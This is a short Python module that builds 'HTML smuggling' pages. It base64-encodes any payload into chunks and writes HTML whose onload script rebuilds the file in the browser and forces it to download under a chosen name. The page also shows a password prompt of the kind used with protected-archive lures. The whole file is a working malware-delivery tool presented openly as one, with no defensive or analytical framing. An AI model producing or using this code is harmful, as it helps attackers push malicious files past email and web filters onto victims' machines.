"""Writes HTML that assembles a file in the browser ("HTML smuggling") from inert bytes."""

from __future__ import annotations

import base64

LINE = 120  # characters of base64 in one string literal

PAGE = """\
<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{title}</title></head>
<body onload="deliver()">
<p>{title}: your document is being prepared. Password: <b>{password}</b></p>
<script>
var parts = [
{parts}
];
function deliver() {{
  var text = atob(parts.join(""));
  var bytes = new Uint8Array(text.length);
  for (var i = 0; i < text.length; i++) {{ bytes[i] = text.charCodeAt(i); }}
  var file = new Blob([bytes], {{type: "application/octet-stream"}});
  if (window.navigator.msSaveOrOpenBlob) {{
    window.navigator.msSaveOrOpenBlob(file, "{name}");
  }} else {{
    var link = document.createElement("a");
    link.href = window.URL.createObjectURL(file);
    link.download = "{name}";
    document.body.appendChild(link);
    link.click();
  }}
}}
</script>
</body></html>
"""


def smuggling_page(name: str, payload: bytes, title: str, password: str = "") -> bytes:
    """A page that offers ``payload`` under ``name`` as soon as it is opened."""
    encoded = base64.b64encode(payload).decode("ascii")
    lines = (f'"{encoded[at : at + LINE]}"' for at in range(0, len(encoded), LINE))
    return PAGE.format(title=title, password=password, name=name, parts=",\n".join(lines)).encode()
